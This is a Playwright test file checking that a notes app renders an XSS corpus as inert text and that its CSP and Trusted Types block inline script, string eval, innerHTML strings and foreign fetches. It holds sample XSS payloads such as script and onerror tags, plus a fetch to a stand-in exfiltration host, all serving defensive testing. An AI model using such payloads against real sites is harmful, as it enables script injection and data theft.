import { expect, test } from '@playwright/test';
import { XSS_CORPUS, armXssCanary, expectInert, recordForeignRequests, seedTable, xssCapture, xssNotes } from './fixtures/xss';
import { AppShell } from './pages/app';
import { CapturePage } from './pages/capture';

/*
 * Stored text is shown, never run. The corpus goes in through the capture page (as messages and as
 * one pasted resource) and straight into the notes table, then every screen is opened.
 */
const SCREENS = [
  ['/', 'Recall'],
  ['/import', 'Import'],
  ['/inbox', 'Inbox'],
  ['/notes', 'Notes'],
  ['/capture', 'Capture'],
  ['/settings', 'Settings'],
  ['/conversations', 'Conversations'],
] as const;

test('the XSS corpus in messages and notes runs nothing and fetches nothing, on every screen', async ({ page, context, baseURL }) => {
  const appOrigin = new URL(baseURL ?? '').origin;
  await armXssCanary(context);
  const foreign = recordForeignRequests(context, appOrigin);

  const capture = new CapturePage(page);
  await capture.open();
  await capture.paste(JSON.stringify(xssCapture()));
  await expect(capture.messages).toHaveCount(XSS_CORPUS.length);
  // Shown as text: the markup is visible, not interpreted.
  await expect(capture.messages.first()).toContainText("<script>window.__pwned = 'script'</script>");
  await expect(page.getByTestId('capture-title')).toContainText('<img src=x onerror=');
  await expect(capture.preview.locator('script, img, svg, math, iframe, object, embed, form, style, link, meta, base')).toHaveCount(0);
  await expect(capture.preview.locator('[href^="javascript:" i], [href^="data:" i], [src], [style]')).toHaveCount(0);
  await expectInert(page, foreign);
  expect(await capture.confirm()).toBe(XSS_CORPUS.length);

  // The whole corpus as one pasted text (a resource rendered as one Markdown block).
  await capture.paste(XSS_CORPUS.map((entry) => entry.markdown).join('\n\n'));
  await expect(capture.messages).toHaveCount(1);
  await expectInert(page, foreign);
  expect(await capture.confirm()).toBe(1);

  await seedTable(page, 'notes', xssNotes());
  for (const [path, heading] of SCREENS) {
    await new AppShell(page).open(path);
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
    await expectInert(page, foreign);
  }
  // The captured conversation itself, message by message.
  await page.getByTestId('conversation-item').first().getByRole('link').click();
  await expect(page.getByTestId('message')).toHaveCount(XSS_CORPUS.length);
  await expect(page.getByTestId('message').first()).toContainText("<script>window.__pwned = 'script'</script>");
  await expectInert(page, foreign);
  // The notes are there for the app (the inbox counts the provisional ones: the seeded ones, plus the
  // candidates extraction drew from the captured conversation).
  const seededProvisional = xssNotes().filter((n) => n.status === 'provisional').length;
  await expect
    .poll(async () => Number(((await page.getByTestId('nav-inbox').textContent()) ?? '').replace(/\D+/gu, '')))
    .toBeGreaterThanOrEqual(seededProvisional);
  // The captured thread is a conversation; the pasted corpus is one resource note, beside the seeded notes.
  expect(await capture.stored()).toMatchObject({ conversations: 1, messages: XSS_CORPUS.length });
  expect((await capture.stored()).resources).toBeGreaterThanOrEqual(1);
});

test('the CSP is sent as a header and as a meta tag, and the app runs under it without a violation', async ({ page, context }) => {
  await armXssCanary(context);
  const response = await page.goto('/');
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(header).toMatch(/^default-src 'self'; /);
  expect(header).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'(;|$)/);
  for (const directive of [
    "worker-src 'self' blob:",
    "img-src 'self' data: blob:",
    "object-src 'none'",
    "base-uri 'self'",
    "frame-ancestors 'none'",
    "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com",
    "require-trusted-types-for 'script'",
    'trusted-types default svelte-trusted-html dompurify',
  ]) {
    expect(header).toContain(directive);
  }
  const meta = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
  expect(`${meta}; frame-ancestors 'none'`).toBe(header);
  expect(response?.headers()['cross-origin-opener-policy']).toBe('same-origin');

  const capture = await page.request.get('/capture?via=bookmarklet');
  expect(capture.headers()['content-security-policy']).toBe(header);
  expect(capture.headers()['cross-origin-opener-policy']).toBe('unsafe-none');
  expect((await page.request.get('/service-worker.js')).headers()['content-security-policy']).toBe(header);

  await new AppShell(page).waitForServiceWorkerControl();
  for (const [path, heading] of SCREENS) {
    await new AppShell(page).open(path);
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
  }
  expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);
});

test('the CSP and Trusted Types block what the sanitizer would have let through: inline script, eval, HTML strings, foreign fetch', async ({
  page,
  context,
  baseURL,
}) => {
  await armXssCanary(context);
  const foreign = recordForeignRequests(context, new URL(baseURL ?? '').origin);
  await new AppShell(page).open('/');
  const outcome = await page.evaluate(async () => {
    // Under Trusted Types a string never reaches a script sink: the app's default policy refuses
    // script text, so setting it (or a string timer) throws before the CSP's script-src is asked.
    const refused = (run: () => void) => {
      try {
        run();
        return 'ran';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const script = document.createElement('script');
    const inlineResult = refused(() => {
      script.textContent = 'window.__inline = true';
      document.body.append(script);
    });
    // A string timer would be compiled later, by the page itself (code evaluated by the test
    // driver is exempt from the page's CSP, so a direct eval here would prove nothing).
    const timer = setTimeout as unknown as (code: string, ms: number) => void;
    const timerResult = refused(() => timer('window.__evaluated = true', 0));
    const htmlResult = refused(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned = 1">';
    });
    await new Promise((resolve) => setTimeout(resolve, 100));
    const evalResult = (window as unknown as { __evaluated?: boolean }).__evaluated ? 'ran' : 'blocked';
    let fetchResult = 'fetched';
    try {
      await fetch('https://xss.invalid/exfiltrate');
    } catch (error) {
      fetchResult = (error as Error).name;
    }
    const policy =
      (window as unknown as { trustedTypes?: { defaultPolicy: { name: string } | null } }).trustedTypes?.defaultPolicy?.name ?? null;
    return {
      inline: (window as unknown as { __inline?: boolean }).__inline ?? false,
      inlineResult,
      timerResult,
      htmlResult,
      evalResult,
      fetchResult,
      policy,
    };
  });
  expect(outcome).toEqual({
    inline: false,
    inlineResult: 'TypeError',
    timerResult: 'TypeError',
    htmlResult: 'TypeError',
    evalResult: 'blocked',
    fetchResult: 'TypeError',
    policy: 'default',
  });
  // The fetch was blocked by the policy (reported as a violation), so it never reached the network.
  // (A sink the default policy refuses throws at once; Chromium reports no violation for it.)
  const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
  expect(violations).toEqual(expect.arrayContaining(['connect-src https://xss.invalid/exfiltrate']));
  expect(foreign).toEqual([]);
});
